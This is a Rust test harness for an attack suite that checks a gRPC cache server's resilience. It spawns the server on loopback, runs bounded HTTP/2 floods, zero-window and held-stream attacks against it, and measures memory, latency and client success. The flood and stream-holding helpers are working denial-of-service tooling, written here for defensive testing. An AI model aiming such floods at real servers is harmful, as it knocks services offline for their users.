//! The attack suite's harness (tests/attacks.rs, tests/attacks_tls.rs).
//!
//! Each attack runs against a fresh server process (the release build under
//! `make test`, `$JIFFY_SERVER_BIN`) for a bounded time on loopback:
//! `JIFFY_ATTACK_SECONDS` (2 by default, the short version `make test`
//! runs; 30 in bench/reliability/attacks.sh). One attack runs at a time
//! ([`serialize`]): each measures its own server's memory and latency.
//! Meanwhile
//! - a well-behaved tonic client, on its own thread and runtime so that the
//!   attack's tasks cannot delay it, makes sequential Gets of a small value
//!   (one every `NORMAL_PAUSE`) and records each latency;
//! - a newcomer opens a NEW connection every `NEWCOMER_EVERY` and makes one
//!   Get on it, which must complete within `NEWCOMER_LIMIT`;
//! - a sampler reads the server's resident memory every `SAMPLE_EVERY` and
//!   keeps the peak (and kills the server if it passes
//!   `SAFETY_CAP_ABOVE_IDLE`, so that a vulnerable server cannot take the
//!   machine down).
//!
//! Then: the process must still be alive, its peak resident memory at most
//! `RSS_BOUND_ABOVE_IDLE` above what it was idle just before, every normal
//! and newcomer call must have succeeded, the normal calls' p99 at most
//! `NORMAL_P99_BOUND`, and a new client must be answered afterwards. One
//! line per attack is printed (`ATTACK ...`) with the figures, pass or fail.

use std::collections::BTreeMap;
use std::future::Future;
use std::io;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex, OnceLock};
use std::time::{Duration, Instant};

use bytes::Bytes;
use futures_util::FutureExt;
use jiffy_server::proto::cache_client::scs_client::ScsClient;
use jiffy_server::proto::cache_client::{ECacheResult, GetRequest, SetRequest};
use jiffy_server::proto::control_client::scs_control_client::ScsControlClient;
use jiffy_server::proto::control_client::CreateCacheRequest;
use prost::Message;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, ReadHalf, WriteHalf};
use tokio::net::TcpStream;
use tonic::transport::{Certificate, Channel, ClientTlsConfig, Endpoint};

pub mod protosocket;

use super::raw_http2 as raw;
use super::redis_cluster::RedisCluster;
use super::{in_cache, sample, server_binary, ServerProcess};

const MIB: u64 = 1 << 20;

/// Resident memory an attack may add to an idle server, at its peak.
pub const RSS_BOUND_ABOVE_IDLE: u64 = 64 * MIB;
/// The in-flight bound every attacked server runs with: the memory the
/// attacks that hold requests or answers can pin is this, then the
/// connection holding most is closed. The default (256 MiB) bounds the same
/// way, at its own level.
pub const IN_FLIGHT_BOUND: &str = "32MiB";
/// The normal client's p99 during an attack. Generous: the machine has two
/// cores, shared by the server, the attacker, the client and other work
/// (the attacks that make the server close connections by the thousand
/// measure 100-200 ms on a loaded 2-core machine; 1-10 ms otherwise).
pub const NORMAL_P99_BOUND: Duration = Duration::from_millis(500);
/// The longest a normal call may take before it counts as failed.
pub const NORMAL_CALL_TIMEOUT: Duration = Duration::from_secs(2);
/// The pause between two normal calls.
pub const NORMAL_PAUSE: Duration = Duration::from_millis(2);
/// How long a newcomer may take to connect and be answered.
pub const NEWCOMER_LIMIT: Duration = Duration::from_secs(2);
/// A newcomer is started this often during an attack.
pub const NEWCOMER_EVERY: Duration = Duration::from_millis(200);
/// How often resident memory is sampled.
pub const SAMPLE_EVERY: Duration = Duration::from_millis(50);
/// Past this much above idle the sampler kills the server: the attack has
/// won, and a shared machine should not find out how far it goes.
pub const SAFETY_CAP_ABOVE_IDLE: u64 = 1024 * MIB;
/// After the attack, normal calls and sampling go on this long: a server
/// still busy with what the attack left behind shows here.
pub const COOL_DOWN: Duration = Duration::from_millis(500);
/// The cache every attack's server has, and its keys.
pub const CACHE: &str = "c";
pub const SMALL_KEY: &[u8] = b"k";
pub const SMALL_VALUE: &[u8] = b"v";
pub const BIG_KEY: &[u8] = b"big";
/// The large value the zero-window attacks ask for.
pub const BIG_VALUE_SIZE: usize = 4 << 20;

/// The attack's length by default: the short version, in `make test`.
pub const SHORT_ATTACK_SECONDS: f64 = 2.0;

/// The attack's length: `JIFFY_ATTACK_SECONDS`, `SHORT_ATTACK_SECONDS` by
/// default.
pub fn attack_time() -> Duration {
    let seconds: f64 = std::env::var("JIFFY_ATTACK_SECONDS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(SHORT_ATTACK_SECONDS);
    Duration::from_secs_f64(seconds)
}

/// One test at a time in the stress binary: the attacks measure one server's
/// memory and latency on a machine of two cores, and the others hold
/// thousands of sockets. (A tokio mutex: each test holds
/// it across its awaits, and a test that fails does not poison it.)
pub async fn serialize() -> tokio::sync::MutexGuard<'static, ()> {
    static SERIAL: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());
    SERIAL.lock().await
}

pub trait Io: AsyncRead + AsyncWrite + Unpin + Send + Sync + 'static {}
impl<T: AsyncRead + AsyncWrite + Unpin + Send + Sync + 'static> Io for T {}
pub type BoxIo = Box<dyn Io>;
pub type IoFuture = Pin<Box<dyn Future<Output = io::Result<BoxIo>> + Send>>;
/// Opens a byte stream to the server: TCP, or TLS over TCP.
pub type RawConnector = Arc<dyn Fn(SocketAddr) -> IoFuture + Send + Sync>;

/// How clients reach the server: plaintext, or TLS with a test CA.
pub struct Transport {
    pub name: &'static str,
    pub scheme: &'static str,
    pub server_args: Vec<String>,
    pub ca_pem: Option<String>,
    pub raw: RawConnector,
    /// Files the server reads (the TLS certificate and key).
    pub files: Option<tempfile::TempDir>,
}

impl Transport {
    pub fn plaintext() -> Transport {
        Transport {
            name: "tcp",
            scheme: "http",
            server_args: Vec::new(),
            ca_pem: None,
            raw: Arc::new(|addr| {
                Box::pin(async move {
                    let stream = TcpStream::connect(addr).await?;
                    stream.set_nodelay(true)?;
                    Ok(Box::new(stream) as BoxIo)
                })
            }),
            files: None,
        }
    }

    /// A TLS transport: a self-signed certificate for `localhost` (rcgen),
    /// the server's flags for it, and `raw` (made by the caller, who has a
    /// TLS client library) to open raw TLS streams.
    pub fn tls(raw: impl Fn(SocketAddr, Vec<u8>) -> IoFuture + Send + Sync + 'static) -> Transport {
        let dir = tempfile::tempdir().unwrap();
        let certified = rcgen::generate_simple_self_signed(vec!["localhost".to_owned()]).unwrap();
        let cert_pem = certified.cert.pem();
        let cert_der = certified.cert.der().to_vec();
        let cert = dir.path().join("cert.pem");
        let key = dir.path().join("key.pem");
        std::fs::write(&cert, &cert_pem).unwrap();
        std::fs::write(&key, certified.signing_key.serialize_pem()).unwrap();
        Transport {
            name: "tls",
            scheme: "https",
            server_args: vec![
                "--tls-cert".to_owned(),
                cert.to_str().unwrap().to_owned(),
                "--tls-key".to_owned(),
                key.to_str().unwrap().to_owned(),
            ],
            ca_pem: Some(cert_pem),
            raw: Arc::new(move |addr| raw(addr, cert_der.clone())),
            files: Some(dir),
        }
    }

    /// A tonic endpoint for `addr` (TLS checked against the test CA).
    pub fn endpoint(&self, addr: SocketAddr) -> Endpoint {
        let endpoint = Endpoint::from_shared(format!("{}://{addr}", self.scheme))
            .unwrap()
            .connect_timeout(NEWCOMER_LIMIT)
            .tcp_nodelay(true);
        match &self.ca_pem {
            None => endpoint,
            Some(pem) => endpoint
                .tls_config(
                    ClientTlsConfig::new()
                        .ca_certificate(Certificate::from_pem(pem))
                        .domain_name("localhost"),
                )
                .unwrap(),
        }
    }
}

/// What an attack's server is started with.
pub struct Setup<'a> {
    pub extra_args: &'a [&'a str],
    pub transport: Transport,
    /// A Redis Cluster to serve from (`--store redis-cluster://...`).
    pub redis: Option<&'a RedisCluster>,
    /// Stores `BIG_VALUE_SIZE` bytes under `BIG_KEY` too.
    pub big_value: bool,
    /// The soft open-files limit the server process starts with (it
    /// inherits this test's, the hard limit, by default).
    pub server_nofile: Option<u64>,
    /// Opens the protosocket port too (`--protosocket-listen`), for the
    /// attacks of [`protosocket`].
    pub protosocket: bool,
    /// `--max-in-flight-bytes`: [`IN_FLIGHT_BOUND`] unless an attack needs
    /// a budget that fits what it holds on purpose.
    pub max_in_flight_bytes: &'a str,
}

impl<'a> Setup<'a> {
    pub fn new(extra_args: &'a [&'a str]) -> Setup<'a> {
        Setup {
            extra_args,
            transport: Transport::plaintext(),
            redis: None,
            big_value: false,
            server_nofile: None,
            protosocket: false,
            max_in_flight_bytes: IN_FLIGHT_BOUND,
        }
    }
}

/// A server under attack and how to reach it.
pub struct Target {
    pub server: ServerProcess,
    pub transport: Transport,
    /// The resident memory the attacks may add: `RSS_BOUND_ABOVE_IDLE`
    /// unless a test documents another.
    pub rss_bound: u64,
    /// Whether a Get of the small key may miss: past `--max-memory` the
    /// store may evict any key, the well-behaved client's included, and a
    /// miss is then a right answer. A wrong value never is.
    pub small_key_may_be_evicted: bool,
}

impl Target {
    /// A gRPC channel to the server, as a well-behaved client opens it.
    pub async fn channel(&self) -> tonic::transport::Channel {
        let endpoint = self.transport.endpoint(self.server.addr);
        endpoint.connect().await.unwrap()
    }
}

/// The `--help` of the server binary, read once.
fn server_help() -> &'static str {
    static HELP: OnceLock<String> = OnceLock::new();
    HELP.get_or_init(|| {
        let output = std::process::Command::new(server_binary())
            .arg("--help")
            .output()
            .expect("the server binary runs");
        String::from_utf8_lossy(&output.stdout).into_owned()
    })
}

/// `args` (pairs of `--flag value`), without the flags this server does not
/// know when `JIFFY_ATTACK_ALLOW_MISSING_FLAGS` is set: that measures an
/// older server (the "before" figures) with the same attacks. Otherwise
/// every flag is passed, and a server that lacks one fails to start.
fn known_args(args: &[&str]) -> Vec<String> {
    let lenient = std::env::var_os("JIFFY_ATTACK_ALLOW_MISSING_FLAGS").is_some();
    let help = server_help();
    let known = |flag: &str| {
        help.split(|c: char| !(c.is_ascii_alphanumeric() || c == '-'))
            .any(|word| word == flag)
    };
    let mut kept = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let flag = args[i];
        let value = args.get(i + 1).copied();
        i += 2;
        if lenient && !known(flag) {
            eprintln!("NOTE: this server has no {flag}; started without `{flag} {value:?}`");
            continue;
        }
        kept.push(flag.to_owned());
        kept.extend(value.map(str::to_owned));
    }
    kept
}

/// Raises this process's soft open-files limit to its hard limit: the
/// attacks hold many sockets, and the server inherits the limit.
pub fn raise_open_files() -> u64 {
    rlimit::increase_nofile_limit(u64::MAX).unwrap()
}

/// Starts the server, creates `CACHE` and stores the values.
pub async fn start(setup: Setup<'_>) -> Target {
    raise_open_files();
    let mut args: Vec<String> = [
        "--listen",
        "127.0.0.1:0",
        "--metrics-listen",
        "127.0.0.1:0",
        "--max-in-flight-bytes",
        setup.max_in_flight_bytes,
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    if setup.protosocket {
        args.push("--protosocket-listen".to_owned());
        args.push("127.0.0.1:0".to_owned());
    }
    if let Some(cluster) = setup.redis {
        args.push("--store".to_owned());
        args.push(cluster.store_url());
    }
    args.extend(setup.transport.server_args.iter().cloned());
    args.extend(known_args(setup.extra_args));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let server = match setup.server_nofile {
        None => ServerProcess::spawn(&args, &[]),
        Some(soft) => {
            let (old_soft, hard) = rlimit::getrlimit(rlimit::Resource::NOFILE).unwrap();
            rlimit::setrlimit(rlimit::Resource::NOFILE, soft.min(hard), hard).unwrap();
            let server = ServerProcess::spawn(&args, &[]);
            rlimit::setrlimit(rlimit::Resource::NOFILE, old_soft, hard).unwrap();
            server
        }
    };
    let channel = setup
        .transport
        .endpoint(server.addr)
        .connect()
        .await
        .unwrap();
    let created = ScsControlClient::new(channel.clone())
        .create_cache(CreateCacheRequest {
            cache_name: CACHE.to_owned(),
        })
        .await;
    // A second front-end of the same Redis Cluster finds the cache there.
    if let Err(status) = created {
        assert_eq!(status.code(), tonic::Code::AlreadyExists, "{status:?}");
    }
    let mut data = ScsClient::new(channel)
        .max_encoding_message_size(16 << 20)
        .max_decoding_message_size(16 << 20);
    put(&mut data, SMALL_KEY, Bytes::from_static(SMALL_VALUE)).await;
    if setup.big_value {
        put(&mut data, BIG_KEY, Bytes::from(vec![b'x'; BIG_VALUE_SIZE])).await;
    }
    Target {
        server,
        transport: setup.transport,
        rss_bound: RSS_BOUND_ABOVE_IDLE,
        small_key_may_be_evicted: false,
    }
}

async fn put(data: &mut ScsClient<Channel>, key: &'static [u8], value: Bytes) {
    let set = SetRequest {
        cache_key: Bytes::from_static(key),
        cache_body: value,
        ttl_milliseconds: 3_600_000,
    };
    data.set(in_cache(CACHE, set)).await.unwrap();
}

/// What the attacker saw, counted by its tasks.
#[derive(Default)]
pub struct Stats {
    pub connections: AtomicU64,
    pub connect_failures: AtomicU64,
    /// Connections the server closed (EOF, reset, or a GOAWAY and EOF).
    pub closed_by_server: AtomicU64,
    pub bytes_sent: AtomicU64,
    pub streams: AtomicU64,
    pub resets_received: AtomicU64,
    /// Silent connections still open when the server should have closed
    /// them (`silent_connections`).
    pub outlived: AtomicU64,
    /// GOAWAY frames received, by error code.
    pub goaways: Mutex<BTreeMap<u32, u64>>,
    /// Calls of a well-behaved protosocket client made during the attack,
    /// and those that failed or took over `NORMAL_CALL_TIMEOUT`.
    pub protosocket_calls: AtomicU64,
    pub protosocket_failures: AtomicU64,
}

impl Stats {
    pub fn count(counter: &AtomicU64, n: u64) {
        counter.fetch_add(n, Ordering::Relaxed);
    }

    pub fn goaway(&self, code: u32) {
        *self.goaways.lock().unwrap().entry(code).or_default() += 1;
    }

    pub fn goaways_with(&self, code: u32) -> u64 {
        self.goaways
            .lock()
            .unwrap()
            .get(&code)
            .copied()
            .unwrap_or(0)
    }

    pub fn summary(&self) -> String {
        let goaways: Vec<String> = self
            .goaways
            .lock()
            .unwrap()
            .iter()
            .map(|(code, n)| format!("{} x{n}", raw::error_name(*code)))
            .collect();
        let protosocket = match self.protosocket_calls.load(Ordering::Relaxed) {
            0 => String::new(),
            calls => format!(
                ", protosocket client {calls} calls, {} failed",
                self.protosocket_failures.load(Ordering::Relaxed)
            ),
        };
        format!(
            "{} conns ({} failed to connect, {} closed by server, {} outlived a deadline), {} streams, {:.1} MiB sent, {} RST_STREAM got, GOAWAY [{}]{protosocket}",
            self.connections.load(Ordering::Relaxed),
            self.connect_failures.load(Ordering::Relaxed),
            self.closed_by_server.load(Ordering::Relaxed),
            self.outlived.load(Ordering::Relaxed),
            self.streams.load(Ordering::Relaxed),
            self.bytes_sent.load(Ordering::Relaxed) as f64 / MIB as f64,
            self.resets_received.load(Ordering::Relaxed),
            goaways.join(", ")
        )
    }
}

/// What an attack's tasks get: where the server is, until when to attack,
/// and where to count.
#[derive(Clone)]
pub struct Ctx {
    pub addr: SocketAddr,
    /// The protosocket port, when the server has one ([`Setup::protosocket`]).
    pub protosocket: Option<SocketAddr>,
    pub scheme: &'static str,
    pub connect: RawConnector,
    pub deadline: tokio::time::Instant,
    pub stop: Arc<AtomicBool>,
    pub stats: Arc<Stats>,
}

impl Ctx {
    /// The same attack context aimed at the protosocket port.
    pub fn on_protosocket(&self) -> Ctx {
        let addr = self
            .protosocket
            .expect("a server started with Setup::protosocket");
        Ctx {
            addr,
            ..self.clone()
        }
    }

    pub fn over(&self) -> bool {
        self.stop.load(Ordering::Relaxed) || tokio::time::Instant::now() >= self.deadline
    }

    /// Opens a byte stream to the server within `limit` (and the deadline).
    pub async fn open(&self, limit: Duration) -> Option<BoxIo> {
        let limit = limit.min(
            self.deadline
                .saturating_duration_since(tokio::time::Instant::now()),
        );
        match tokio::time::timeout(limit, (self.connect)(self.addr)).await {
            Ok(Ok(io)) => {
                Stats::count(&self.stats.connections, 1);
                Some(io)
            }
            _ => {
                Stats::count(&self.stats.connect_failures, 1);
                None
            }
        }
    }

    /// Sleeps `d`, or less if the attack ends first.
    pub async fn pause(&self, d: Duration) {
        tokio::time::sleep_until(self.deadline.min(tokio::time::Instant::now() + d)).await;
    }

    /// The `:authority` for hand-made requests.
    pub fn authority(&self) -> String {
        self.addr.to_string()
    }

    /// The header block of a gRPC call to `method` of the data plane.
    pub fn request_block(&self, method: &str) -> Vec<u8> {
        raw::grpc_request_block(
            self.scheme,
            &self.authority(),
            &format!("/cache_client.Scs/{method}"),
            CACHE,
        )
    }
}

/// A hand-made HTTP/2 connection: the preface and SETTINGS sent; a reader
/// task (when `reading`) that answers the server's SETTINGS and PINGs as a
/// live client would, and counts what it gets. A non-reading one never
/// reads its socket.
pub struct RawConn {
    pub write: Arc<tokio::sync::Mutex<WriteHalf<BoxIo>>>,
    pub closed: Arc<AtomicBool>,
    reader: Option<tokio::task::JoinHandle<()>>,
    _unread: Option<ReadHalf<BoxIo>>,
}

impl RawConn {
    pub async fn open(ctx: &Ctx, reading: bool, params: &[(u16, u32)]) -> Option<RawConn> {
        let mut io = ctx.open(Duration::from_secs(2)).await?;
        let mut hello = raw::PREFACE.to_vec();
        hello.extend(raw::settings(params));
        if io.write_all(&hello).await.is_err() {
            Stats::count(&ctx.stats.closed_by_server, 1);
            return None;
        }
        let (read, write) = tokio::io::split(io);
        let write = Arc::new(tokio::sync::Mutex::new(write));
        let closed = Arc::new(AtomicBool::new(false));
        let (reader, unread) = if reading {
            let task = tokio::spawn(read_and_answer(
                read,
                write.clone(),
                closed.clone(),
                ctx.stats.clone(),
            ));
            (Some(task), None)
        } else {
            (None, Some(read))
        };
        Some(RawConn {
            write,
            closed,
            reader,
            _unread: unread,
        })
    }

    /// Writes `bytes`; false once the connection is gone or the attack over.
    pub async fn send(&self, ctx: &Ctx, bytes: &[u8]) -> bool {
        if self.closed.load(Ordering::Relaxed) {
            return false;
        }
        let write = async {
            let mut w = self.write.lock().await;
            w.write_all(bytes).await?;
            w.flush().await
        };
        match tokio::time::timeout_at(ctx.deadline, write).await {
            Ok(Ok(())) => {
                Stats::count(&ctx.stats.bytes_sent, bytes.len() as u64);
                true
            }
            Ok(Err(_)) => {
                self.closed.store(true, Ordering::Relaxed);
                false
            }
            Err(_) => false,
        }
    }

    pub fn is_closed(&self) -> bool {
        self.closed.load(Ordering::Relaxed)
    }
}

impl Drop for RawConn {
    fn drop(&mut self) {
        if let Some(reader) = self.reader.take() {
            reader.abort();
        }
    }
}

async fn read_and_answer(
    mut read: ReadHalf<BoxIo>,
    write: Arc<tokio::sync::Mutex<WriteHalf<BoxIo>>>,
    closed: Arc<AtomicBool>,
    stats: Arc<Stats>,
) {
    while let Ok(Some(frame)) = raw::read_frame_from(&mut read).await {
        let answer = match frame.kind {
            raw::SETTINGS if frame.flags & raw::FLAG_ACK == 0 => {
                Some(raw::frame(raw::SETTINGS, raw::FLAG_ACK, 0, &[]))
            }
            raw::PING if frame.flags & raw::FLAG_ACK == 0 => {
                let mut data = [0u8; 8];
                data.copy_from_slice(&frame.payload[..8.min(frame.payload.len())]);
                Some(raw::ping(data, true))
            }
            raw::GOAWAY => {
                if let Some(code) = frame.goaway_code() {
                    stats.goaway(code);
                }
                None
            }
            raw::RST_STREAM => {
                Stats::count(&stats.resets_received, 1);
                None
            }
            _ => None,
        };
        if let Some(answer) = answer {
            // Never wait for the attack's own writes for long: a reader
            // stuck here would stop reading.
            let mut w = match tokio::time::timeout(Duration::from_millis(100), write.lock()).await {
                Ok(w) => w,
                Err(_) => continue,
            };
            let _ = tokio::time::timeout(Duration::from_millis(100), w.write_all(&answer)).await;
        }
    }
    closed.store(true, Ordering::Relaxed);
}

/// Per-connection state of a flood: the next stream id, batches so far.
pub struct ConnState {
    pub next_stream: u32,
    pub batches: u64,
}

impl ConnState {
    /// A new client stream id.
    pub fn stream(&mut self) -> u32 {
        let id = self.next_stream;
        self.next_stream += 2;
        id
    }
}

/// Bytes a flood writes in one go; `ConnState` tells the connection's past.
pub type Batch = Arc<dyn Fn(&mut ConnState) -> Vec<u8> + Send + Sync>;

/// `connections` hand-made connections, each writing `batch` after batch as
/// fast as its socket takes them until the attack ends; one the server
/// closes is replaced by a new one, as a determined attacker would.
pub async fn flood(
    ctx: &Ctx,
    connections: usize,
    reading: bool,
    params: &[(u16, u32)],
    batch: Batch,
) {
    let tasks: Vec<_> = (0..connections)
        .map(|_| {
            let ctx = ctx.clone();
            let batch = batch.clone();
            let params = params.to_vec();
            tokio::spawn(async move {
                while !ctx.over() {
                    let Some(conn) = RawConn::open(&ctx, reading, &params).await else {
                        ctx.pause(Duration::from_millis(20)).await;
                        continue;
                    };
                    let mut state = ConnState {
                        next_stream: 1,
                        batches: 0,
                    };
                    while !ctx.over() && state.next_stream < (1 << 31) - 100_000 {
                        let bytes = batch(&mut state);
                        state.batches += 1;
                        if !conn.send(&ctx, &bytes).await {
                            break;
                        }
                        tokio::task::yield_now().await;
                    }
                    Stats::count(&ctx.stats.streams, u64::from(state.next_stream / 2));
                    if conn.is_closed() {
                        Stats::count(&ctx.stats.closed_by_server, 1);
                        ctx.pause(Duration::from_millis(10)).await;
                    }
                }
            })
        })
        .collect();
    for task in tasks {
        let _ = task.await;
    }
}

/// An HTTP/2 client connection made with h2 (its flow control, PING answers
/// and SETTINGS are a real client's), driven by its own task.
pub async fn h2_connect(
    ctx: &Ctx,
    builder: &h2::client::Builder,
) -> Option<(h2::client::SendRequest<Bytes>, Arc<AtomicBool>)> {
    let io = ctx.open(Duration::from_secs(2)).await?;
    let handshake = tokio::time::timeout(Duration::from_secs(2), builder.handshake::<_, Bytes>(io));
    let Ok(Ok((send, connection))) = handshake.await else {
        Stats::count(&ctx.stats.closed_by_server, 1);
        return None;
    };
    let closed = Arc::new(AtomicBool::new(false));
    let done = closed.clone();
    let stats = ctx.stats.clone();
    tokio::spawn(async move {
        if let Err(error) = connection.await {
            if error.is_go_away() {
                if let Some(reason) = error.reason() {
                    stats.goaway(reason.into());
                }
            }
        }
        done.store(true, Ordering::Relaxed);
    });
    Some((send, closed))
}

/// A request header for a data-plane call over h2.
pub fn h2_request(ctx: &Ctx, method: &str) -> http::Request<()> {
    // A method of `cache_client.Scs` by its name, any other by its path.
    let path = if method.starts_with('/') {
        method.to_owned()
    } else {
        format!("/cache_client.Scs/{method}")
    };
    http::Request::builder()
        .method("POST")
        .uri(format!("{}://{}{path}", ctx.scheme, ctx.authority()))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .header("cache", CACHE)
        .body(())
        .unwrap()
}

/// A framed GetRequest for `key`.
pub fn get_message(key: &[u8]) -> Bytes {
    let get = GetRequest {
        cache_key: Bytes::copy_from_slice(key),
    };
    Bytes::from(raw::grpc_message(&get.encode_to_vec()))
}

/// A call held open by `hold_streams`.
enum Held {
    /// No answer yet.
    Waiting(h2::client::ResponseFuture, h2::SendStream<Bytes>),
    /// Answer headers in, its body never read.
    Answered(http::Response<h2::RecvStream>, h2::SendStream<Bytes>),
}

impl Held {
    /// Whether the server has ended the call (answered whole, or reset it).
    fn ended(self, stats: &Stats) -> Option<Held> {
        match self {
            Held::Waiting(mut response, body) => match (&mut response).now_or_never() {
                None => Some(Held::Waiting(response, body)),
                Some(Ok(answer)) => Held::Answered(answer, body).ended(stats),
                Some(Err(_)) => {
                    Stats::count(&stats.resets_received, 1);
                    None
                }
            },
            Held::Answered(answer, body) => {
                (!answer.body().is_end_stream()).then_some(Held::Answered(answer, body))
            }
        }
    }
}

/// `connections` h2 connections, each keeping `streams` calls to `method`
/// open: each sends `sent` as its request body, and ends it if `end` (a
/// whole call, whose answer is then never read: with a zero window the
/// server cannot send it) or never (a body that never completes). A call
/// the server ends is replaced by a new one, a closed connection by a new
/// one.
pub async fn hold_streams(
    ctx: &Ctx,
    connections: usize,
    streams: usize,
    builder: h2::client::Builder,
    method: &'static str,
    sent: Bytes,
    end: bool,
) {
    let builder = Arc::new(builder);
    let tasks: Vec<_> = (0..connections)
        .map(|_| {
            let ctx = ctx.clone();
            let builder = builder.clone();
            let sent = sent.clone();
            tokio::spawn(async move {
                while !ctx.over() {
                    let Some((send, closed)) = h2_connect(&ctx, &builder).await else {
                        ctx.pause(Duration::from_millis(20)).await;
                        continue;
                    };
                    let mut held: Vec<Held> = Vec::with_capacity(streams);
                    'connection: while !ctx.over() && !closed.load(Ordering::Relaxed) {
                        while held.len() < streams {
                            let ready = tokio::time::timeout_at(ctx.deadline, send.clone().ready());
                            let Ok(Ok(mut ready)) = ready.await else {
                                break 'connection;
                            };
                            let Ok((response, mut body)) =
                                ready.send_request(h2_request(&ctx, method), false)
                            else {
                                break 'connection;
                            };
                            // A body that never starts sends no DATA at all.
                            if (end || !sent.is_empty())
                                && body.send_data(sent.clone(), end).is_err()
                            {
                                break 'connection;
                            }
                            Stats::count(&ctx.stats.bytes_sent, sent.len() as u64);
                            Stats::count(&ctx.stats.streams, 1);
                            held.push(Held::Waiting(response, body));
                        }
                        ctx.pause(Duration::from_millis(100)).await;
                        held = held
                            .into_iter()
                            .filter_map(|h| h.ended(&ctx.stats))
                            .collect();
                    }
                    if closed.load(Ordering::Relaxed) {
                        Stats::count(&ctx.stats.closed_by_server, 1);
                    }
                }
            })
        })
        .collect();
    for task in tasks {
        let _ = task.await;
    }
}

/// The normal client's log: latencies of the calls made during the attack
/// and cool-down, and failures.
#[derive(Default)]
struct CallLog {
    latencies: Vec<Duration>,
    failures: Vec<String>,
}

/// A client on its own thread and runtime: the normal one (one connection,
/// sequential Gets) or the newcomer (a new connection per Get).
struct Client {
    stop: Arc<AtomicBool>,
    calls: Arc<AtomicU64>,
    thread: std::thread::JoinHandle<CallLog>,
}

impl Client {
    fn normal(endpoint: Endpoint, recording: Arc<AtomicBool>, may_miss: bool) -> Client {
        Client::spawn(move |stop, calls| async move {
            let mut log = CallLog::default();
            let channel = match endpoint.connect().await {
                Ok(channel) => channel,
                Err(error) => {
                    log.failures.push(format!("connect: {error}"));
                    return log;
                }
            };
            let mut client = ScsClient::new(channel);
            while !stop.load(Ordering::Relaxed) {
                let started = Instant::now();
                let result =
                    tokio::time::timeout(NORMAL_CALL_TIMEOUT, get_small(&mut client, may_miss))
                        .await;
                let took = started.elapsed();
                calls.fetch_add(1, Ordering::Relaxed);
                if recording.load(Ordering::Relaxed) {
                    match result {
                        Ok(Ok(())) => log.latencies.push(took),
                        Ok(Err(error)) => log.failures.push(error),
                        Err(_) => log
                            .failures
                            .push(format!("no answer in {NORMAL_CALL_TIMEOUT:?}")),
                    }
                }
                tokio::time::sleep(NORMAL_PAUSE).await;
            }
            log
        })
    }

    fn newcomers(endpoint: Endpoint, may_miss: bool) -> Client {
        Client::spawn(move |stop, calls| async move {
            let mut log = CallLog::default();
            while !stop.load(Ordering::Relaxed) {
                let started = Instant::now();
                let endpoint = endpoint.clone();
                let call = async move {
                    let channel = endpoint
                        .connect()
                        .await
                        .map_err(|e| format!("connect: {e}"))?;
                    get_small(&mut ScsClient::new(channel), may_miss).await
                };
                match tokio::time::timeout(NEWCOMER_LIMIT, call).await {
                    Ok(Ok(())) => log.latencies.push(started.elapsed()),
                    Ok(Err(error)) => log.failures.push(error),
                    Err(_) => log
                        .failures
                        .push(format!("not answered in {NEWCOMER_LIMIT:?}")),
                }
                calls.fetch_add(1, Ordering::Relaxed);
                tokio::time::sleep(NEWCOMER_EVERY.saturating_sub(started.elapsed())).await;
            }
            log
        })
    }

    fn spawn<F, Fut>(body: F) -> Client
    where
        F: FnOnce(Arc<AtomicBool>, Arc<AtomicU64>) -> Fut + Send + 'static,
        Fut: Future<Output = CallLog>,
    {
        let stop = Arc::new(AtomicBool::new(false));
        let calls = Arc::new(AtomicU64::new(0));
        let (s, c) = (stop.clone(), calls.clone());
        let thread = on_own_runtime(move || body(s, c));
        Client {
            stop,
            calls,
            thread,
        }
    }

    fn finish(self) -> CallLog {
        self.stop.store(true, Ordering::Relaxed);
        self.thread.join().unwrap()
    }
}

/// Runs `body` on a thread and current-thread runtime of its own: a
/// client the attack's thousands of tasks cannot hold up, as a real client
/// in another process is not.
pub fn on_own_runtime<F, Fut, T>(body: F) -> std::thread::JoinHandle<T>
where
    F: FnOnce() -> Fut + Send + 'static,
    Fut: Future<Output = T>,
    T: Send + 'static,
{
    std::thread::spawn(move || {
        tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .expect("a runtime for a client")
            .block_on(body())
    })
}

async fn get_small(client: &mut ScsClient<Channel>, may_miss: bool) -> Result<(), String> {
    let get = GetRequest {
        cache_key: Bytes::from_static(SMALL_KEY),
    };
    let answer = client
        .get(in_cache(CACHE, get))
        .await
        .map_err(|status| format!("{:?}: {}", status.code(), status.message()))?;
    let answer = answer.into_inner();
    let missed = answer.result == ECacheResult::Miss as i32;
    if missed && may_miss {
        return Ok(());
    }
    if answer.cache_body != SMALL_VALUE {
        return Err("wrong value".to_owned());
    }
    Ok(())
}

/// Resident bytes of `pid`, or None once it is gone (or a zombie).
pub fn resident_of(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let kib: u64 = status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())?;
    Some(kib * 1024)
}

struct Sampler {
    stop: Arc<AtomicBool>,
    thread: std::thread::JoinHandle<(u64, bool)>,
}

impl Sampler {
    /// Samples `pid` every `SAMPLE_EVERY`; kills it (and sets `abort`) past
    /// the safety cap. Returns the peak and whether it killed.
    fn start(pid: u32, idle: u64, abort: Arc<AtomicBool>) -> Sampler {
        let stop = Arc::new(AtomicBool::new(false));
        let s = stop.clone();
        let thread = std::thread::spawn(move || {
            let mut peak = idle;
            while !s.load(Ordering::Relaxed) {
                let Some(rss) = resident_of(pid) else { break };
                peak = peak.max(rss);
                if rss > idle + SAFETY_CAP_ABOVE_IDLE {
                    abort.store(true, Ordering::Relaxed);
                    let _ = std::process::Command::new("kill")
                        .args(["-KILL", &pid.to_string()])
                        .status();
                    return (peak, true);
                }
                std::thread::sleep(SAMPLE_EVERY);
            }
            (peak, false)
        });
        Sampler { stop, thread }
    }

    fn finish(self) -> (u64, bool) {
        self.stop.store(true, Ordering::Relaxed);
        self.thread.join().unwrap()
    }
}

